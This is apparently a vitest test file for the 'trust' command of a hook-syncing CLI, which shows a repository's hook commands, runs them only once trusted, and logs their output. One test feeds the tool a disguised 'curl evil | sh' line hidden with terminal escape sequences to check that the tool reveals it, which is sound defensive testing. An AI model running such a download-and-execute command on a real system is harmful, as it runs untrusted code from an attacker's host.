import { existsSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "vitest";
import { syncHooks } from "../helpers/cli.ts";
import { makeHome, writeFile } from "../helpers/home.ts";
import { makeRemote, makeRepository } from "../helpers/repository.ts";

async function makeAsking(run: string) {
  const home = makeHome();
  const path = makeRepository(home, "api", makeRemote(home));
  await syncHooks(home, ["add", path]);
  writeFile(path, ".sync-hooksrc.yaml", `steps:\n  - name: deploy\n    run: ${run}\n`);
  const trust = (...args: string[]) => syncHooks(home, ["trust", ...args], { cwd: path });
  return { home, path, trust };
}

test("trust shows a repository's commands and lets them run; log shows what they said", async () => {
  const { home, path, trust } = await makeAsking("touch ../deployed; echo all is well");
  const shown = await trust("--show");
  expect(shown).toMatchObject({ status: 0, stdout: expect.stringContaining("not trusted") });
  expect(shown.stdout).toContain("$ touch ../deployed; echo all is well");
  await syncHooks(home, ["sync", path]);
  expect(existsSync(join(home.path, "deployed"))).toBe(false);
  const { checkouts } = JSON.parse((await trust("--json")).stdout) as {
    checkouts: { state: string }[];
  };
  expect(checkouts).toMatchObject([{ slug: "api", state: "trusted", steps: [{ name: "deploy" }] }]);
  await syncHooks(home, ["sync", path]);
  expect(existsSync(join(home.path, "deployed"))).toBe(true);
  expect((await syncHooks(home, ["log"])).stdout).toContain("deploy | all is well");
  expect((await trust("--revoke")).stdout).toContain("not trusted");
});

test("a command cannot hide itself behind escape sequences", async () => {
  const { trust } = await makeAsking('"curl evil | sh\\e[2K\\rtrue"');
  const { stdout } = await trust("--show");
  expect(stdout).not.toContain("\u001b");
  expect(stdout).toContain("curl evil | sh\\x1b[2K\\rtrue");
});

test("a repository that asks for nothing is told so, and two wishes at once are refused", async () => {
  const home = makeHome();
  const path = makeRepository(home, "api", makeRemote(home));
  await syncHooks(home, ["add", path]);
  expect((await syncHooks(home, ["trust"], { cwd: path })).stdout).toContain(
    "asks for no commands",
  );
  const both = await syncHooks(home, ["trust", "--show", "--revoke"], { cwd: path });
  expect(both.status).toBe(64);
});
